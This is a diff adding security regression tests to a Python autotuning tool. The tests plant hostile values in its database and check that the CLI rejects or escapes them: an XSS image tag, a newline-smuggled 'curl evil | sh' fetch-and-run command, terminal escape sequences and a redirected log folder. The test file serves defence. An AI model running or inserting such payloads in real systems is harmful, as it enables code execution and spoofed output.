@@ -8,7 +8,11 @@ planted or edited here, as such a writer would, on a real SQLite file and on the
 from __future__ import annotations
 
 import datetime as dt
+import json
+import os
 import re
+import stat
+import subprocess
 import sys
 from pathlib import Path
 from typing import Any
@@ -16,21 +20,24 @@ from typing import Any
 import optuna
 import pytest
 import sqlalchemy
-from workers.test_signed_jobs import engine, submitted, worker
+from cli.test_gc import folders, tuned
+from workers.test_signed_jobs import QUICK, engine, submit, submitted, worker
 
+from autotune import api as autotune_api
 from autotune.core.errors import InputError
 from autotune.core.plans import Backend, parse_plan
 from autotune.hardware.devices import cpu_device
 from autotune.hardware.meters import RssMeter
 from autotune.leases.identity import host_name
+from autotune.search.spec import tune_spec
 from autotune.storage.database import parse_url, redact
 from autotune.trials.command import TrialCommand, fill
-from autotune.trials.measurement import run_trial
+from autotune.trials.measurement import measure_spec, run_trial
 from autotune.trials.settings import TrialSettings
 from autotune.trials.workload import workload_of
 from autotune.workers.signing import JobKey
 
-from conftest import SYNTHETIC, TEST_JOB_KEY
+from conftest import AUTOTUNE, SYNTHETIC, TEST_JOB_KEY
 
 
 def shell_template(tmp_path: Path) -> list[str]:
@@ -165,3 +172,191 @@ def test_a_clean_job_completes_beside_every_bad_row_and_the_worker_serves_on(
     assert any(re.fullmatch(r"\[cpu\] trial \d+: batch 2, plan none \(retry\)", line) for line in lines), (
         lines
     )
+
+
+def sql(cache: Path, statement: str, **values: Any) -> None:
+    with engine(f"sqlite:///{cache / 'autotune.db'}").begin() as conn:
+        conn.execute(sqlalchemy.text(statement), values)
+
+
+def cli(cache: Path, *argv: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run([AUTOTUNE, *argv, "--cache-dir", str(cache)], capture_output=True, text=True,
+                          timeout=120, cwd=cache)  # fmt: skip
+
+
+def test_a_stored_answer_that_is_not_autotune_s_reaches_no_page_and_no_paste(tmp_path: Path) -> None:
+    """Before: `report` put the tag in the page unescaped (stored XSS), and `best --format torchrun` printed
+    a batch holding a newline as a second pasted line."""
+    tuned(tmp_path, "answered")
+    tag = "<img src=x onerror=alert(1)>"
+    sql(tmp_path, "UPDATE autotune_best SET batch_size = :b", b=tag)
+
+    page = cli(tmp_path, "report", "answered", "-o", str(tmp_path / "page.html"))
+    pasted = cli(tmp_path, "best", "--study", "answered", "--format", "torchrun")
+
+    db = display(f"sqlite:///{tmp_path}/autotune.db")
+    line = (f"Error: database {db}: the stored answer of study 'answered' is damaged: its "
+            f"batch_size '{tag}' is not a whole number >= 1\n")  # fmt: skip
+    assert (page.returncode, page.stderr) == (5, line)
+    assert not (tmp_path / "page.html").exists()
+    sql(tmp_path, "UPDATE autotune_best SET batch_size = :b", b="8\ncurl evil | sh")
+    pasted = cli(tmp_path, "best", "--study", "answered", "--format", "torchrun")
+    assert (pasted.returncode, pasted.stdout) == (5, "")
+    assert pasted.stderr.startswith("Error: database ") and pasted.stderr.count("\n") == 1
+
+
+def test_the_printed_command_is_the_signed_job_s_and_an_edited_one_is_not_printed(tmp_path: Path) -> None:
+    """Before: `best --format torchrun` printed the "tuned command" from the unsigned workload row."""
+    tuned(tmp_path, "answered")
+    evil = json.dumps({"command": ["sh", "-c", "curl evil | sh"], "is_template": True})
+    sql(tmp_path, "UPDATE autotune_workloads SET details = :d", d=evil)
+
+    signed = cli(tmp_path, "best", "--study", "answered", "--format", "torchrun")
+
+    assert signed.returncode == 0, signed.stderr
+    assert "curl" not in signed.stdout
+    assert f"python {SYNTHETIC} --base-mib 8" in signed.stdout.splitlines()[1], signed.stdout
+    spec = json.loads(stored_spec(tmp_path, "answered"))
+    sql(tmp_path, "UPDATE autotune_jobs SET spec = :s WHERE study_name = 'answered'",
+        s=json.dumps({**spec, "command": ["sh", "-c", "curl evil | sh"], "is_template": True}))  # fmt: skip
+    edited = cli(tmp_path, "best", "--study", "answered", "--format", "torchrun")
+    assert edited.returncode == 0, edited.stderr
+    assert "curl" not in edited.stdout
+    assert edited.stdout.splitlines()[1] == (
+        "# the study's job does not verify: it was changed after it was signed (its command, options or script "
+        "hashes are not what was submitted); its stored command is not printed"
+    )
+
+
+def stored_spec(cache: Path, study: str) -> str:
+    with engine(f"sqlite:///{cache / 'autotune.db'}").connect() as conn:
+        query = "SELECT CAST(spec AS TEXT) FROM autotune_jobs WHERE study_name = :s"
+        return str(conn.execute(sqlalchemy.text(query), {"s": study}).scalar_one())
+
+
+def test_text_from_the_database_reaches_no_terminal_as_control_characters(tmp_path: Path) -> None:
+    """Before: `show`, `studies` and the worker's lines printed ESC, CR and LF as they were stored (a title
+    set, the screen cleared, forged lines); a trial whose kind is no autotune kind ended `show`."""
+    tuned(tmp_path, "answered")
+    forged = "\x1b]0;owned\x07\x1b[2J\rok\nforged line"
+    sql(tmp_path, "UPDATE trial_user_attributes SET value_json = :v WHERE key = 'note'", v=json.dumps(forged))
+    sql(tmp_path, "UPDATE autotune_jobs SET error = :e", e=forged)
+    sql(tmp_path, "UPDATE trial_user_attributes SET value_json = '\"evil\"' WHERE key = 'kind' AND trial_id = "
+                  "(SELECT trial_id FROM trials WHERE number = 0)")  # fmt: skip
+
+    shown, listed = cli(tmp_path, "show", "answered"), cli(tmp_path, "studies")
+
+    for done in (shown, listed):
+        assert done.returncode == 0, done.stderr
+        assert "\x1b" not in done.stdout + done.stderr and "\r" not in done.stdout + done.stderr
+        assert "forged line" not in done.stdout.splitlines()
+    assert "\\x1b]0;owned\\x07" in shown.stdout
+    assert ("study 'answered': skipping trial 0, which is damaged: ValueError: 'evil' is not a valid TrialKind"
+            in shown.stderr.splitlines()), shown.stderr  # fmt: skip
+
+
+def test_gc_removes_only_a_folder_that_says_it_is_that_trial_s(tmp_path: Path) -> None:
+    """Before: gc removed any folder under trials/ that a finished trial's log_dir named."""
+    tuned(tmp_path, "finished")
+    tuned(tmp_path, "running", "--step-seconds", "0.02")
+    sql(tmp_path, "UPDATE autotune_jobs SET state = 'running' WHERE study_name = 'running'")
+    theirs = [f for f in folders(tmp_path, "running")]
+    victim = log_dirs(tmp_path, "running")[0]
+    sql(tmp_path, "UPDATE trial_user_attributes SET value_json = :v WHERE key = 'log_dir' AND trial_id = "
+                  "(SELECT MIN(t.trial_id) FROM trials t JOIN studies s USING (study_id) WHERE s.study_name = "
+                  "'finished')", v=json.dumps(str(victim)))  # fmt: skip
+
+    others = {p for p in log_dirs(tmp_path, "finished") if p != victim}
+
+    collected = cli(tmp_path, "gc")
+
+    assert collected.returncode == 0, collected.stderr
+    assert victim.is_dir() and len(theirs) == len(folders(tmp_path, "running"))
+    assert sum(folders(tmp_path, "finished").values()) == 1  # the edited trial's own folder is left, unproven
+    assert collected.stdout.startswith(f"removed {len(others)} trial folder(s) (")
+
+
+def log_dirs(cache: Path, study: str) -> list[Path]:
+    with engine(f"sqlite:///{cache / 'autotune.db'}").connect() as conn:
+        rows = conn.execute(sqlalchemy.text(
+            "SELECT a.value_json FROM trials t JOIN studies s USING (study_id) JOIN trial_user_attributes a "
+            "USING (trial_id) WHERE s.study_name = :s AND a.key = 'log_dir' ORDER BY t.number"), {"s": study})  # fmt: skip
+        return [Path(json.loads(v)) for (v,) in rows]
+
+
+def test_a_finished_signed_job_set_back_to_open_does_not_run_again_unless_submitted_again(
+    tmp_path: Path, storage: str
+) -> None:
+    """Before: a database writer who set a finished job's state back to open (its answer deleted) made every
+    worker run it again."""
+    script = tmp_path / "train.py"
+    script.write_text(SYNTHETIC.read_text())
+    submit(storage, "once", str(script), "--", "--base-mib", "8")
+    first = worker(storage, tmp_path / "cache")
+    assert first[-1].startswith("worker: ") and "jobs done: once;" in first[-1], first
+    with engine(storage).begin() as conn:
+        conn.execute(sqlalchemy.text("DELETE FROM autotune_best"))
+        conn.execute(sqlalchemy.text("UPDATE autotune_jobs SET state = 'open'"))
+
+    again = worker(storage, tmp_path / "cache")
+
+    assert again[-2:] == [
+        "[cpu] refused: job once: this worker ran it to its end before (the same signature): it runs again when "
+        "its submitter submits it again (autotune submit --force)",
+        "worker: 0 trial(s); jobs done: -; failed: -; refused: once",
+    ], again
+    forced = subprocess.run([AUTOTUNE, "submit", "--force", *QUICK, "--study", "once", "--storage", storage,
+                             str(script), "--", "--base-mib", "8"], capture_output=True, text=True, timeout=120)  # fmt: skip
+    assert forced.returncode == 0, forced.stderr
+    rerun = worker(storage, tmp_path / "cache")
+    assert "jobs done: once;" in rerun[-1] and not rerun[-1].startswith("worker: 0 "), rerun
+
+
+def test_the_library_makes_its_files_private_as_the_cli_does(tmp_path: Path) -> None:
+    """Before: through autotune.submit/measure, the database, cache dir and logs were created 0644/0755."""
+    user = os.umask(0o022)
+    try:
+        spec = tune_spec([str(SYNTHETIC)], "300MiB", storage=f"sqlite:///{tmp_path / 'jobs.db'}", study="p")
+        autotune_api.submit(spec)
+        measured = autotune_api.measure(
+            measure_spec(
+                [str(SYNTHETIC), "--base-mib", "8"],
+                2,
+                device="cpu",
+                cache_dir=tmp_path / "cache",
+                settings=TrialSettings(1, 2, 60, 60),
+            )
+        )
+        assert os.umask(0o022) == 0o022  # the caller's umask is back
+    finally:
+        os.umask(user)
+    assert measured.outcome.value == "complete", measured.error
+    assert stat.S_IMODE((tmp_path / "jobs.db").stat().st_mode) == 0o600
+    folders = [tmp_path / "cache", *(p for p in (tmp_path / "cache").rglob("*") if p.is_dir())]
+    assert len(folders) >= 3 and {stat.S_IMODE(p.stat().st_mode) for p in folders} == {0o700}
+    written = [p for p in (tmp_path / "cache").rglob("*") if p.name in ("request.json", "stdout.log")]
+    assert len(written) == 2 and {stat.S_IMODE(p.stat().st_mode) for p in written} == {0o600}
+
+
+def test_a_password_in_storage_is_warned_of_with_the_alternative_and_a_chosen_key_is_refused(
+    tmp_path: Path,
+) -> None:
+    """Before: `--storage postgresql://user:password@...` put the password in `ps` without a word, and any
+    32 characters were a key (a passphrase can be guessed offline from a stored signature)."""
+    url = "postgresql://tuner:s3cret@127.0.0.1:9/none"
+    warned = subprocess.run(
+        [AUTOTUNE, "studies", "--storage", url], capture_output=True, text=True, timeout=60
+    )
+    quiet = subprocess.run([AUTOTUNE, "studies"], capture_output=True, text=True, timeout=60,
+                           env={**os.environ, "AUTOTUNE_STORAGE": url})  # fmt: skip
+    warning = ("Warning: the password in --storage can be read by every user of this host (ps) and stays in your "
+               "shell's history: give the URL in AUTOTUNE_STORAGE instead, or leave the password out and put it in "
+               "~/.pgpass (or PGPASSWORD)")  # fmt: skip
+    assert warned.stderr.splitlines()[0] == warning
+    assert warning not in quiet.stderr and quiet.returncode == warned.returncode == 5
+    chosen = subprocess.run([AUTOTUNE, "worker", "--once", "--storage", f"sqlite:///{tmp_path / 'x.db'}"],
+                            capture_output=True, text=True, timeout=60,
+                            env={**os.environ, "AUTOTUNE_JOB_KEY": "correct horse battery staple, twice over"})  # fmt: skip
+    assert (chosen.returncode, chosen.stderr) == (2, (
+        "Error: AUTOTUNE_JOB_KEY: a job key must be 64 hex digits as autotune keygen writes them (a chosen key can "
+        "be guessed from the signatures stored in the database), got 40 characters\n"))  # fmt: skip
